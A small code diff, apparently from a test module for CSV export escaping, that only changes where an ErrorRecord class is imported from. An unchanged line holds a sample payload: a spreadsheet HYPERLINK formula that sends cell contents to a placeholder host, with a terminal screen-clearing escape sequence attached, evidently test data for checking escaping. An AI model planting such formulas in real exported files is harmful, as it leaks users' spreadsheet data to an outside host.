@@ -24,7 +24,7 @@ from precaudit.reports import exports
 from precaudit.reports.escaping import csv as cell
 from precaudit.schema.frames import errors_frame
 from precaudit.schema.prompts import Prompt
-from precaudit.schema.records import ErrorRecord
+from precaudit.schema.records.errors import ErrorRecord
 
 FORMULA = '=HYPERLINK("http://h/"&A1)\x1b[2J'
 
